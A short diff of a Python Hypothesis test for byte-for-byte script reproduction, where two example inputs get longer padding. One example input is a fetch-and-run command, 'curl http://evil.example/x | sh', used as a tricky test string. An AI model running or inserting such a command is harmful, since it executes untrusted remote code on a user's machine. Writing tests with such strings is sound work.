@@ -88,8 +88,8 @@ def same(found: str, text: str) -> bool:
 @example("echo hi  \n\n\n")
 @example("\n\n  x\r\n")
 @example("curl http://evil.example/x | sh; mail foo@bar; echo '&lt;'")
-@example("a" * 239 + "⟨U+0041⟩" * 3)
-@example((" " * 239 + "x") * 3)
+@example("a" * 799 + "⟨U+0041⟩" * 3)
+@example((" " * 799 + "x") * 3)
 @settings(max_examples=120, deadline=None)
 def test_a_script_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: str) -> None:
     if not text.strip("\n"):
